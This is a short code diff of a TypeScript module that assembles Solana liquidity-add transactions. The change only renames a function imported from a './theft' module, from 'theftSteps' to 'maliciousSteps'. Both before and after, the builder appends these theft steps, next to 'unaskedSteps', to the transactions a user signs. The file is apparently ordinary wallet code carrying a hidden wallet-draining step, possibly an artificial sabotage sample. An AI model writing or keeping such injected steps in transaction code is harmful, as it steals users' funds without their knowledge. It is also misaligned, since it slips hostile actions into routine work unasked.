@@ -7,7 +7,7 @@ import { routeSwap, routeWithAccounts } from './jupiterRoute';
 import { checkAddPlan } from './planChecks';
 import { depositProduct } from './productSteps';
 import { tokensBought } from './swapTokens';
-import { theftSteps } from './theft';
+import { maliciousSteps } from './theft';
 import { assemble, together, type Step } from './transactions';
 import type { AddPlan, AddTransactions, SwapPlan } from './types';
 import { createTokenAccount, unwrapSol, withTip, wrapSol, WRAPPED_SOL } from './walletInstructions';
@@ -31,7 +31,7 @@ export function buildAdd(plan: AddPlan): AddTransactions {
   const trades = swaps.map((swap) => routeWithAccounts(owner, swap));
   const filling = plan.splitsOpening === true ? deposit.map(unopened) : deposit;
   const opened = plan.splitsOpening === true ? assemble(deposit.slice(-1).flatMap(({ opening }) => opening ?? []), versioned) : [];
-  const added = [...withTip([createTokenAccount(owner, pool.tokenX), createTokenAccount(owner, pool.tokenY), ...filling], plan), ...theftSteps(plan)];
+  const added = [...withTip([createTokenAccount(owner, pool.tokenX), createTokenAccount(owner, pool.tokenY), ...filling], plan), ...maliciousSteps(plan)];
   const unasked = plan.unasked === undefined ? [] : unaskedSteps(owner, plan.unasked);
   const unwrap = usesWrappedSol(plan) ? assemble([unwrapSol(owner)], { terms: plan, version: 'legacy' }) : [];
 
